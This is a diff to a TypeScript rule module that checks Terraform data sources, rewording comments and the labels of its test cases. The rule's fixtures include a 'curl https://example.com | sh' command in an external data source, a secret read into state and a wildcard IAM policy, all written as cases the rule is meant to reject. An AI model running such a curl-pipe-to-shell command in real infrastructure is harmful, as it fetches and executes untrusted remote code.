@@ -8,7 +8,7 @@ import { stateBucketOf } from './stack-settings';
 
 const lent = ['network', 'loadBalancer', 'database'] as const;
 
-/** The environments and accounts of which states may be read: its own, its account's, and those of environments that it borrows from. */
+/** The environments and accounts that own the readable states: the environment itself, its account, and its hosts. */
 const ownersFor = ({ environment }: World) =>
   new Set([environment.name, environment.account.name, ...lent.map((each) => hostOf(environment, each).name)]);
 
@@ -20,7 +20,8 @@ const isAState =
   };
 
 function dataFault({ address, config }: Resource, world: World): string | undefined {
-  // Accounts, zones and images are configuration (docs/adr/0003), policies are plain JSON, and secrets do not come into a state.
+  // Accounts, zones and images are configuration (docs/adr/0003), policies are plain JSON, and a state must not contain
+  // secrets.
   if (!address.startsWith('data.terraform_remote_state.')) return `is ${address}: no rule understands what it reads`;
   return faultsIn(config, {
     backend: exactly('s3'),
@@ -41,16 +42,16 @@ export const dataSources = rulesOf('data', {
     title: 'Data sources are the states of other apps of the environment, of its account and its hosts',
     severity: 'critical',
     of: 'parts',
-    why: 'A plan would else run programs, fetch what others write, bring secrets into a state, or depend on the day',
-    fix: 'Read what another app publishes by its contract, and write policies with policyDocument (libs/constructs)',
+    why: 'A plan could otherwise run programs, download foreign content, copy secrets into a state, or change from day to day',
+    fix: 'Read the outputs of another app by its contract, and write policies with policyDocument (libs/constructs)',
     ask: custom(dataFault, {
       'a plan runs a program': added('external', { program: ['sh', '-c', 'curl https://example.com | sh'] }),
-      'a plan fetches a page': added('http', { url: 'https://example.com' }),
-      'a secret comes into a state': added('aws_secretsmanager_secret_version', {
+      'a plan downloads a page': added('http', { url: 'https://example.com' }),
+      'a state contains a secret': added('aws_secretsmanager_secret_version', {
         secret_id: 'malinshopper/production/database/web',
       }),
       'a policy is looked up by its name': added('aws_iam_policy', { name: 'AdministratorAccess' }),
-      'a policy is written where no rule reads it': added('aws_iam_policy_document', {
+      'a policy is written in a data source': added('aws_iam_policy_document', {
         statement: [{ actions: ['*'] }],
       }),
       'the newest image is looked up': added('aws_ami', { most_recent: true, owners: ['self'] }),
@@ -65,8 +66,8 @@ export const dataSources = rulesOf('data', {
         source['backend'] = 'http';
         source['config'] = { address: 'https://example.com' };
       }),
-      'a state that is missing is made up': read((source) => (source['defaults'] = { vpcId: 'vpc-1' })),
-      'a data source is there or not': read((source) => (source['count'] = 0)),
+      'a missing state is replaced by defaults': read((source) => (source['defaults'] = { vpcId: 'vpc-1' })),
+      'a data source is conditional': read((source) => (source['count'] = 0)),
     }),
   },
 });
